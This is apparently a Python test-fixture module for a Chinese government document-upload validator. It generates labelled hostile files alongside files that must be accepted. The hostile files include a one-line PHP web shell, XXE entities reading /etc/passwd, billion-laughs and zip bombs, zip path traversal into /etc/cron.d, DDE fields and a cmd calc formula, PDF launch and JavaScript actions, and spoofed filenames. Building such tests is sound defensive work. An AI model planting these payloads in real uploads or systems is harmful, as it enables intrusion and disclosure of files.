"""The hostile uploads themselves, and good ones of every kind, by name."""

import datetime
import json
import stat
from collections.abc import Iterator
from typing import Any

import pikepdf

from guotu.lib.gongwen import Enclosure, Paper
from guotu.lib.gongwen.writing import document
from trials._upload_makers import (
    DOCUMENT,
    LAUGHS,
    RELS,
    SHEET,
    TYPES,
    acting,
    bits,
    hiding,
    lying,
    nested,
    opening,
    overlapping,
    paper,
    paragraph,
    picture,
    related,
    repacked,
    resized_png,
    sheet,
    swap,
    word,
    zipped,
)

Made = Iterator[tuple[str, str, bytes]]
_MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"
_PLAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_XML_HEAD = b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"


def hostile() -> Made:
    """Yield (label, file name, content); a label begins with the check that should refuse it."""
    yield from _names()
    yield from _kinds()
    yield from _archives()
    yield from _office()
    yield from _pictures()
    yield from _pdfs()


def _names() -> Made:
    good = paper()
    for label, name in {
        "nul": "申请\x00.pdf",
        "turned": "申请\u202efdp.exe",
        "turned_pdf": "申请\u202etxt.pdf",
        "invisible": "申请\u200b.pdf",
        "control": "申请\r\n.pdf",
        "climbs": "../../etc/passwd.pdf",
        "climbs_windows": "..\\..\\a.pdf",
        "stream": "a.pdf:evil.exe",
        "device": "CON.pdf",
        "hidden": ".htaccess.pdf",
        "long": "长" * 300 + ".pdf",
        "trailing_space": "a.pdf ",
        "none": "",
    }.items():
        yield f"name {label}", name, good
    yield "extension double", "申请.pdf.exe", good
    yield "extension double_inside", "申请.exe.pdf", good
    yield "extension html_inside", "申请.html.pdf", good
    yield "extension other", "申请.docx", good
    yield "extension lacking", "申请", good
    yield "extension zip_as_docx", "申请.docx", zipped({"a.txt": b"x"})


def _kinds() -> Made:
    html = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    yield "kind html_as_pdf", "a.pdf", html
    yield "kind html_as_txt", "a.txt", html
    yield "kind script_as_txt", "a.txt", b"#!/bin/sh\n" + b"echo\n" * 2_000
    yield "kind exe_as_pdf", "a.pdf", b"MZ\x90\x00" + bytes(500)
    yield "kind elf_as_jpg", "a.jpg", b"\x7fELF" + bytes(500)
    yield "kind link_as_docx", "a.docx", b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(90)
    yield "kind old_word", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)
    yield "kind rtf_as_docx", "a.docx", b"{\\rtf1 {\\object\\objdata 00}}"
    yield "kind svg_with_script", "a.svg", b"<svg xmlns='x'><script>alert(1)</script></svg>"
    yield "kind svg_as_png", "a.png", b"<?xml version='1.0'?><svg><script/></svg>"
    yield "kind rar", "a.zip", b"Rar!\x1a\x07\x00" + bytes(90)
    yield "kind gzip", "a.zip", b"\x1f\x8b" + bytes(90)
    yield "kind php", "a.txt", b"<?php system($_GET['c']); ?>"
    yield "kind empty", "a.pdf", b""
    yield "kind binary_as_txt", "a.txt", b"x" * 5_000 + bytes(50)
    yield "kind html_at_end", "a.txt", b"x\n" * 4_000 + b"<script>alert(1)</script>"
    yield "size text", "a.txt", b"x" * 21_000_000
    yield "entity laughs_kml", "a.kml", LAUGHS + b"<kml>&a11;</kml>"


def _archives() -> Made:
    yield "density flat", "a.zip", zipped({"a.txt": bytes(20_000_000)})
    yield "density huge", "a.zip", zipped({"a.txt": bytes(300_000_000)})
    yield "density many", "a.zip", zipped({f"{n}.txt": bytes(2_000_000) for n in range(30)})
    yield "inner nested", "a.zip", nested(4)
    yield "inner in_itself", "r.zip", zipped({"r/r.zip": zipped({"r/r.zip": b"PK\x03\x04"})})
    yield "places overlapping", "a.zip", overlapping()
    yield "places hidden", "a.zip", hiding()
    yield "read lying", "a.zip", lying()
    yield "entry many", "a.zip", zipped({f"{n}.txt": b"" for n in range(5_000)})
    yield "entry climbs", "a.zip", zipped({"../../a.txt": b"x"})
    yield "entry climbs_windows", "a.zip", zipped({"..\\a.txt": b"x"})
    yield "entry absolute", "a.zip", zipped({"/etc/cron.d/a": b"x"})
    yield "entry drive", "a.zip", zipped({"C:\\a.txt": b"x"})
    yield "entry link", "a.zip", zipped({"a.txt": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777)
    yield "entry password", "a.zip", zipped({"a.txt": b"x" * 50}, flag=1)
    yield "entry exe", "a.zip", zipped({"甲/a.exe": b"x"})
    yield "inner exe", "a.zip", zipped({"甲/a.dat": b"MZ\x00" + bytes(90)})
    yield "inner html", "a.zip", zipped({"甲/a.dat": b"<html><script>"})
    yield "inner pdf", "a.zip", zipped({"a.pdf": acting("/Launch", F="cmd.exe")})
    yield "damage cut", "a.zip", zipped({"a.txt": b"x" * 90})[:-30]
    yield "damage empty", "a.zip", zipped({})
    yield "entity kmz", "a.kmz", zipped({"doc.kml": LAUGHS + b"<kml>&a11;</kml>"})


def _office() -> Made:
    outside = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    inside = b'<!DOCTYPE w [<!ENTITY x "ha">]>'
    good, book = word(), sheet()
    field = (
        b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\c</w:instrText></w:r>"
    )
    for label, turn in {"outside": outside, "laughs": LAUGHS, "inside": inside}.items():
        spoilt = repacked(good, {DOCUMENT: swap(b"?>\n", b"?>\n" + turn)})
        yield f"entity docx_{label}", "a.docx", spoilt
    laughing = repacked(book, {SHEET: lambda old: _XML_HEAD + LAUGHS + old})
    yield "entity xlsx_laughs", "a.xlsx", laughing
    yield "entity rels", "a.docx", repacked(good, {RELS: swap(b"?>\n", b"?>\n" + outside)})
    deep = repacked(good, {DOCUMENT: paragraph(b"<w:p>" * 300)})
    yield "damage deep", "a.docx", deep
    yield "damage cut_xml", "a.docx", repacked(good, {DOCUMENT: lambda old: old[:300]})
    vba = repacked(good, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "macro docm_as_docx", "a.docx", vba
    yield "macro control", "a.docx", repacked(good, add={"word/activeX/activeX1.xml": b"<x/>"})
    yield "macro xlm", "a.xlsx", repacked(book, add={"xl/macrosheets/sheet1.xml": b"<x/>"})
    yield "macro object", "a.docx", repacked(good, add={"word/embeddings/o1.xlsx": b"x"})
    yield "type docm", "a.docx", repacked(good, {TYPES: swap(_PLAIN, _MACRO)})
    yield (
        "link template",
        "a.docx",
        repacked(good, {RELS: related("http://e/x", "attachedTemplate")}),
    )
    yield "link picture", "a.docx", repacked(good, {RELS: related("http://e/x.png")})
    yield "link share", "a.docx", repacked(good, {RELS: related("\\\\e\\x", "oleObject")})
    yield "link file", "a.docx", repacked(good, {RELS: related("file:///c:/x", "hyperlink")})
    yield "field dde", "a.docx", repacked(good, {DOCUMENT: paragraph(field)})
    include = b'<w:fldSimple w:instr="INCLUDETEXT c:/x"/>'
    yield "field include", "a.docx", repacked(good, {DOCUMENT: paragraph(include)})
    yield "formula dde", "a.xlsx", sheet("=cmd|'/c calc'!A0")
    yield "formula web", "a.xlsx", sheet('=WEBSERVICE("http://e")')
    yield "formula other_book", "a.xlsx", sheet("=[1]A!A1")
    yield "part exe", "a.docx", repacked(good, add={"word/media/image9.png": b"MZ\x00\x00"})


def _pictures() -> Made:
    png, jpeg = picture(), picture("JPEG")
    yield "pixels png_100k", "a.png", resized_png(100_000, 100_000)
    yield "pixels png_256m", "a.png", bits(16_000, 16_000)
    yield "damage png_cut", "a.png", png[:-20]
    yield "damage png_sum", "a.png", png[:20] + b"\x77" + png[21:]
    yield "damage jpeg_cut", "a.jpg", jpeg[: len(jpeg) // 2]
    yield "damage jpeg_head", "a.jpg", b"\xff\xd8\xff\xe0" + bytes(300) + b"\xff\xd9"
    yield "damage tiff", "a.tif", picture("TIFF")[:100]
    yield "tail png_zip", "a.png", png + zipped({"a": b"x"})
    yield "tail jpeg_zip", "a.jpg", jpeg + zipped({"a": b"x"})
    yield "tail tiff_zip", "a.tif", picture("TIFF") + zipped({"a": b"x"})
    yield "tail png_html", "a.png", png + b"<script>alert(1)</script>"
    yield "damage bmp_as_png", "a.png", picture("BMP")


def _embedded(made: Any, page: Any) -> None:
    made.attachments["a.exe"] = b"MZ"


def _filters(made: Any, page: Any) -> None:
    stream = pikepdf.Stream(made, b"x")
    stream.write(b"x" * 50, filter=pikepdf.Array([pikepdf.Name.FlateDecode] * 9))
    page.Contents = stream


def _bomb(made: Any, page: Any) -> None:
    page.Contents = pikepdf.Stream(made, bytes(600_000_000))


def _deep(made: Any, page: Any) -> None:
    nest = pikepdf.Array([])
    for _ in range(90):
        nest = pikepdf.Array([nest])
    page.Deep = nest


def _form(made: Any, page: Any) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]))


def _crowd(made: Any, page: Any) -> None:
    made.Root.Crowd = pikepdf.Array([made.make_indirect(pikepdf.Array([])) for _ in range(310_000)])


def _pdfs() -> Made:
    name = pikepdf.Name
    yield "action script", "a.pdf", opening(S=name.JavaScript, JS="app.alert(1)")
    yield "action named", "a.pdf", opening(S=name.Named, N=name.Print)
    yield "action launch", "a.pdf", acting("/Launch", F="cmd.exe")
    yield "action submit", "a.pdf", acting("/SubmitForm", F="http://e/")
    yield "action far", "a.pdf", acting("/GoToR", F="a.pdf")
    yield "action file_link", "a.pdf", acting("/URI", URI="file:///etc/passwd")
    yield "action embedded", "a.pdf", paper(_embedded)
    yield "action xfa", "a.pdf", paper(_form)
    yield "unfold filters", "a.pdf", paper(_filters)
    yield "unfold bomb", "a.pdf", paper(_bomb)
    yield "damage pdf_deep", "a.pdf", paper(_deep)
    yield "damage pdf_crowd", "a.pdf", paper(_crowd)
    for user in ("", "secret"):
        locked = paper(encryption=pikepdf.Encryption(owner="o", user=user))
        yield f"password {'user' if user else 'owner'}", "a.pdf", locked
    yield "ends pdf_zip", "a.pdf", paper() + zipped({"a": b"x"})
    yield "ends pdf_cut", "a.pdf", paper()[:-40]
    yield "damage pdf_rubbish", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) + b"\n%%EOF"


def good() -> Made:
    """Yield what must be taken in."""
    official = Paper(
        head="云溪县自然资源局文件",
        organ="云溪县自然资源局",
        code="自然资批〔2026〕1号",
        kind="批复",
        title="关于用地的批复",
        body="一、同意用地。\n" + "请依法办理。" * 400,
        dated=datetime.date(2026, 1, 5),
        addressees=("双桥镇人民政府",),
        enclosures=(Enclosure("勘测定界图", "见图"),),
        printer="云溪县自然资源局办公室",
    )
    yield "good official", "批复 2026.1号.docx", document(official)
    yield "good docx", "申请.docx", word()
    linked = {RELS: related("https://www.gov.cn/", "hyperlink")}
    yield "good docx_link", "申请.docx", repacked(word(), linked)
    yield "good xlsx", "面积表.XLSX", sheet()
    rows: Any = "=SUM(A2:A9)/'第二张表'!B2"
    yield "good xlsx_formula", "面积表.xlsx", sheet(rows)
    yield "good pdf", "批复.pdf", paper()
    yield "good pdf_link", "批复.pdf", acting("/URI", URI="https://www.gov.cn/")
    yield "good png", "现场.png", picture()
    yield "good png_large", "现场.png", picture(size=(5_000, 4_000))
    yield "good jpg", "现场.jpg", picture("JPEG", size=(4_000, 3_000))
    yield "good jpeg_twice", "现场.jpeg", picture("JPEG") + bytes(9) + picture("JPEG")
    yield "good tiff", "扫描.tif", picture("TIFF", compression="tiff_lzw")
    yield (
        "good zip",
        "材料.zip",
        zipped({"甲/批复.pdf": paper(), "乙.docx": word(), "丙.txt": b"x"}),
    )
    shape = {f"site.{end}": bytes(200) for end in ("shp", "shx", "dbf")}
    yield "good shapefile", "site.zip", zipped(shape | {"site.prj": b"PROJCS[]"})
    yield "good kml", "site.kml", b"<kml xmlns='http://www.opengis.net/kml/2.2'/>"
    yield "good kmz", "site.kmz", zipped({"doc.kml": b"<kml/>"})
    features = json.dumps({"type": "FeatureCollection", "features": []})
    yield "good geojson", "site.geojson", features.encode()
    yield "good points", "界址点.txt", "[属性描述]\n[地块坐标]\n".encode("gb18030")
    yield "good text", "说明.txt", "国土空间用途管制\n".encode() * 900
    yield "good csv", "清单.csv", "文号,面积\n1,2\n".encode("gb18030")
    yield "good ofd", "公文.ofd", zipped({"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<D/>"})
    yield "good dxf", "site.dxf", b"0\nSECTION\n2\nENTITIES\n0\nENDSEC\n0\nEOF\n"
